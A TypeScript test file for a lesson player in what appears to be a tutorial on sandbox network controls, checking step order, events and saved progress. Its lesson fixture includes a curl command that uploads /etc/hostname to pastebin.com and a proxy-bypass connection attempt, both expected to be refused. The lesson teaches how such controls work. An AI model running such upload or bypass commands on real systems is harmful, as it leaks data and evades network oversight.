import { describe, expect, it } from "vitest";
import { createLessonRun } from "./player";
import type { Lesson } from "./schema";
import { bypassRefused, dnsRefused, pastebinRefused } from "./testing/windows";

const LESSON: Lesson = {
  lesson: 1,
  title: "Around the proxy",
  setup: ["mkdir -p /tmp/demo"],
  steps: [
    {
      title: "Pastebin",
      type: "task",
      run: "curl https://pastebin.com/",
      solve: "curl -sS -T /etc/hostname https://pastebin.com/api/upload",
      expect: [{ verdict: "host-not-allowed", by: "proxy" }],
    },
    { title: "Bypass", type: "demo", run: "llrun --connect 3128 -- tcpconnect 93.184.216.34 443", expect: [{ kernel: "EACCES" }] },
    { title: "DNS", run: "nslookup example.com 10.0.2.2", expect: [{ dns: "example.com" }] },
  ],
};

describe("a lesson run", () => {
  it("takes the steps in order: a wrong command fails the current step and stays on it", () => {
    const run = createLessonRun(LESSON, "pin1");
    expect(run.step).toBe(0);
    expect(run.setup).toEqual(["mkdir -p /tmp/demo"]);
    expect(run.onCommand(bypassRefused())?.passed).toBe(false);
    expect(run.step).toBe(0);
    expect(run.onCommand(pastebinRefused())?.passed).toBe(true);
    expect(run.step).toBe(1);
    expect(run.onCommand(bypassRefused())?.passed).toBe(true);
    expect(run.onCommand(dnsRefused())?.passed).toBe(true);
    expect(run.done).toBe(true);
    expect(run.current).toBeNull();
    expect(run.onCommand(dnsRefused())).toBeNull();
  });

  it("types a demo step's run itself and offers a task step's solve for Show me", () => {
    const run = createLessonRun(LESSON, "pin1");
    expect(run.demoCommand()).toBeNull();
    expect(run.showMe()).toBe("curl -sS -T /etc/hostname https://pastebin.com/api/upload");
    run.onCommand(pastebinRefused());
    expect(run.demoCommand()).toBe("llrun --connect 3128 -- tcpconnect 93.184.216.34 443");
    expect(run.showMe()).toBe("llrun --connect 3128 -- tcpconnect 93.184.216.34 443");
  });

  it("logs one lesson.step event per judged command, with the decisive verdict and the unmet items", () => {
    const run = createLessonRun(LESSON, "pin1");
    run.onCommand(bypassRefused());
    run.onCommand(pastebinRefused());
    const events = run.takeEvents();
    expect(events).toHaveLength(2);
    expect(events[0]).toMatchObject({
      kind: "lesson.step",
      pin: "pin1",
      step: 1,
      title: "Pastebin",
      result: "failed",
      decisiveKind: "kernel.result",
      by: "kernel",
    });
    expect(events[0]?.kind === "lesson.step" && events[0].unmet[0]).toMatch(/expected a decision host-not-allowed by proxy/);
    expect(events[1]).toMatchObject({ result: "passed", code: "host-not-allowed", by: "proxy", target: "pastebin.com:443", unmet: [] });
    expect(run.takeEvents()).toEqual([]);
  });

  it("keeps progress as plain JSON keyed by the pin and resumes from it", () => {
    const run = createLessonRun(LESSON, "pin1");
    run.onCommand(pastebinRefused());
    const saved = JSON.parse(JSON.stringify(run.progress));
    expect(saved).toEqual({ pin: "pin1", step: 1, passed: [1], failures: 0 });
    const resumed = createLessonRun(LESSON, "pin1", saved);
    expect(resumed.step).toBe(1);
    expect(resumed.current?.title).toBe("Bypass");
  });

  it("ignores a progress saved for another pin, or one that does not parse", () => {
    expect(createLessonRun(LESSON, "pin2", { pin: "pin1", step: 2, passed: [1, 2] }).step).toBe(0);
    expect(createLessonRun(LESSON, "pin1", { step: -3 } as never).step).toBe(0);
    expect(createLessonRun(LESSON, "pin1", { pin: "pin1", step: 99, passed: [] }).done).toBe(true);
  });

  it("restarts from step 1 with nothing passed", () => {
    const run = createLessonRun(LESSON, "pin1", { pin: "pin1", step: 2, passed: [1, 2] });
    run.restart();
    expect(run.progress).toEqual({ pin: "pin1", step: 0, passed: [], failures: 0 });
  });
});
